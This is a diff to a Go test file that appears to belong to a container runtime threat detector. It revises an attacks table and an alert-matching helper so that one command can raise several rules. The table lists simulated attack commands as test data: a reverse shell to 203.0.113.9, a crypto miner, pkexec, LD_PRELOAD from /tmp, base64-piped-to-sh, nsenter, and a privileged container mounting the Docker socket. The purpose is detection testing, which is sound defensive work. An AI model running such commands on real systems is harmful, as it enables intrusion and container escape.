@@ -63,16 +63,16 @@ COPY secret /etc/init.d/job
 ENV PATH=/opt/tools:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
 `
 
-// attacks are what is done in a running container, and the one rule that must
-// tell of it. A ~ in an argument stands for a blank.
-var attacks = []struct{ rule, command string }{
+// attacks are what is done in a running container, and the rule that must
+// tell of it, or the rules where it is more than one thing. A ~ in an argument stands for a blank.
+var attacks = []struct{ rules, command string }{
 	{"Reverse shell", "act stdin 203.0.113.9:443"},
 	{"Crypto miner", "xmrig"},
 	{"Program run from memory", "act memfd"},
 	{"Exploit of a set-user-id program", "pkexec"},
 	{"Library preloaded from a temporary folder", "env LD_PRELOAD=/tmp/x.so act"},
 	{"Hidden program run", "/opt/tools/.hidden"},
-	{"Encoded command run", "sh -c true|base64~-d|sh"},
+	{"Encoded command run, Shell run in a container", "sh -c true|base64~-d|sh"},
 	{"Program not from the image run in a container", "act drop /srv/dropped"},
 	{"Program not from the image run in a container", "act drop /data/dropped"},
 	{"Escape tool run in a container", "nsenter"},
@@ -128,7 +128,7 @@ func TestEachAttackOnAContainerRaisesItsRule(t *testing.T) {
 	runContainer(t, prefix, "--privileged", "--cap-add", "ALL", "--tmpfs", "/data:exec", "-v", strings.TrimPrefix(dockerHost, "unix://")+":/docker.sock",
 		image, "act", "serve", "0.0.0.0:446")
 	w.settle(t)
-	expect(t, "the container is started", prefix, w.take(), "Privileged container started")
+	expect(t, "the container is started", prefix, w.take(), "Privileged container started, Container with a sensitive mount started")
 	for _, ip := range []string{"203.0.113.9/32", "169.254.169.254/32"} {
 		docker(t, "exec", prefix, "ip", "addr", "add", ip, "dev", "lo")
 	}
@@ -143,20 +143,26 @@ func TestEachAttackOnAContainerRaisesItsRule(t *testing.T) {
 		// Some attacks fail, as they are done with files that are no programs.
 		out, _ := exec.Command("docker", append([]string{"-H", dockerHost, "exec", prefix}, args...)...).CombinedOutput()
 		w.settle(t)
-		if !expect(t, a.command, prefix, w.take(), a.rule) {
+		if !expect(t, a.command, prefix, w.take(), a.rules) {
 			t.Logf("%s", out)
 		}
 	}
 }
 
-// expect wants one alert, of that rule and with all that is known of the container.
-func expect(t *testing.T, what, container string, got []fired, rule string) bool {
+// expect wants the alerts of those rules, in their order, each with all that is
+// known of the container.
+func expect(t *testing.T, what, container string, got []fired, rules string) bool {
 	t.Helper()
-	ok := len(got) == 1 && got[0].rule == rule && got[0].container == container && (container == "" || got[0].known)
-	if ok {
+	var names []string
+	known := true
+	for _, f := range got {
+		names = append(names, f.rule)
+		known = known && f.container == container && (container == "" || f.known)
+	}
+	if known && strings.Join(names, ", ") == rules {
 		return true
 	}
-	t.Errorf("%s: %d alerts, want only %q", what, len(got), rule)
+	t.Errorf("%s: %d alerts, want %s", what, len(got), rules)
 	for _, f := range got {
 		t.Logf("%s: %s", f.rule, f.text)
 	}
